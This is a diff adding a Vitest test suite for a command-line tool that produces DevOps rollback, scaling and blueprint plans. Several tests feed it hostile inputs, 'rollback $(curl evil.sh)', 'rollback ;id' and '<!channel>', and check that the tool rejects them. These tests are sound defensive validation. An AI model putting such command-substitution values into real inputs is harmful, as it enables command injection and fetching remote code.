@@ -1,0 +1,120 @@
+import { spawn } from 'node:child_process';
+import { mkdtempSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { fileURLToPath } from 'node:url';
+import { describe, expect, it } from 'vitest';
+
+const cli = fileURLToPath(new URL('../src/cli.ts', import.meta.url));
+
+interface Ended {
+  readonly code: number | null;
+  readonly out: string;
+  readonly err: string;
+}
+
+function ask(words: readonly string[], input = '', env: NodeJS.ProcessEnv = {}): Promise<Ended> {
+  return new Promise((resolve) => {
+    const child = spawn(process.execPath, [cli, ...words], { env: { PATH: process.env['PATH'], ...env } });
+    let out = '';
+    let err = '';
+    child.stdout.on('data', (chunk: Buffer) => (out += chunk.toString()));
+    child.stderr.on('data', (chunk: Buffer) => (err += chunk.toString()));
+    child.on('close', (code) => resolve({ code, out, err }));
+    child.stdin.end(input);
+  });
+}
+
+const json = async (...words: string[]): Promise<{ code: number | null; answer: Record<string, unknown> }> => {
+  const { code, out } = await ask(['--json', ...words]);
+  return { code, answer: JSON.parse(out) as Record<string, unknown> };
+};
+
+describe('asking in a terminal', () => {
+  it('prints a plan with the version in its commands and exits 0', async () => {
+    const { code, out, err } = await ask(['rollback', 'checkout', 'to', 'v2.3', 'on', 'eks']);
+    expect({ code, err }).toEqual({ code: 0, err: '' });
+    expect(out).toContain('Roll back checkout to v2.3');
+    expect(out).toContain('kubectl -n checkout rollout undo deploy/checkout --to-revision="${REVISION:?set REVISION}"');
+    expect(out).not.toContain('\u001B[');
+  });
+
+  it('prints the ten parts of the DEVOPS BLUEPRINT, in order, with the system on its cover', async () => {
+    const { out } = await ask(['blueprint', 'checkout', 'on', 'eks']);
+    const parts = [
+      'DEVOPS BLUEPRINT',
+      'System: checkout',
+      'DEVOPS OVERVIEW',
+      'ENVIRONMENT STRATEGY',
+      'CI/CD PIPELINE',
+      'DEPLOYMENT STRATEGY',
+      'INFRASTRUCTURE',
+      'ROLLBACK PLAN',
+      'SCALING POLICY',
+      'MONITORING',
+    ];
+    const places = parts.map((part) => out.indexOf(part));
+    expect(places.every((place) => place >= 0)).toBe(true);
+    expect(places).toEqual(places.toSorted((a, b) => a - b));
+  });
+
+  it('says on the error stream what was wrong, and exits 2, without repeating what was typed', async () => {
+    const { code, out, err } = await ask(['rollback $(curl evil.sh)']);
+    expect({ code, out }).toEqual({ code: 2, out: '' });
+    expect(err).toContain('cannot be a version');
+    expect(err).not.toContain('evil');
+  });
+
+  it('keeps a name with spaces together when the shell took its quotes off', async () => {
+    const { answer } = await json('scale', 'geo tiles', 'to', '3k', 'rps');
+    expect(answer['inquiry']).toEqual({ intent: 'scale', params: { system: 'geo tiles', rps: 3000 }, flags: [] });
+  });
+
+  it('exits 1 and names every fault when a persona file is broken', async () => {
+    const folder = mkdtempSync(join(tmpdir(), 'persona-'));
+    writeFileSync(join(folder, 'x.md'), '---\nkind: hint\nid: x\n---\n\nHello {{ nobody }}.\n');
+    const { code, out, err } = await ask(['help'], '', { PERSONAS_DIR: folder });
+    expect({ code, out }).toEqual({ code: 1, out: '' });
+    expect(err).toMatch(/x\.md:\d+: name: /u);
+    expect(err).toMatch(/x\.md:6: about: a variable the program knows/u);
+  });
+});
+
+describe('asking for JSON', () => {
+  it('gives the inquiry, the topics and the blueprint as one object', async () => {
+    const { code, answer } = await json('rollback', 'v2.3', 'in', 'prod', '--think');
+    expect(code).toBe(0);
+    expect(Object.keys(answer)).toEqual(['inquiry', 'topics', 'blueprint']);
+    expect(answer['inquiry']).toEqual({
+      intent: 'rollback',
+      params: { version: 'v2.3', environment: 'production', flags: ['think'] },
+      flags: ['think'],
+    });
+  });
+
+  it('gives the problem and its hint, and exits 2', async () => {
+    const { code, answer } = await json('rollback', '<!channel>');
+    expect(code).toBe(2);
+    expect(answer['problem']).toEqual({
+      code: 'bad-version',
+      hint: expect.stringContaining('cannot be a version') as string,
+    });
+  });
+
+  it('answers many lines in order, at least 300 a second', async () => {
+    const texts = ['rollback v2.3', 'slo 99.9 over 28d', 'deploy canary checkout', 'how do we split dev and prod?', 'rollback ;id'];
+    const lines = Array.from({ length: 600 }, (_, index) => ({ id: `l${index}`, text: texts[index % texts.length] }));
+    const input = lines.map((line) => JSON.stringify(line)).join('\n');
+    const empty = await timed(() => ask(['--batch', '--json'], ''));
+    const full = await timed(() => ask(['--batch', '--json'], input));
+    const ids = full.result.out.trimEnd().split('\n').map((line) => (JSON.parse(line) as { id: string }).id);
+    expect(ids).toEqual(lines.map((line) => line.id));
+    expect(600 / ((full.ms - empty.ms) / 1000)).toBeGreaterThan(300);
+  });
+});
+
+async function timed<T>(work: () => Promise<T>): Promise<{ result: T; ms: number }> {
+  const started = performance.now();
+  const result = await work();
+  return { result, ms: performance.now() - started };
+}
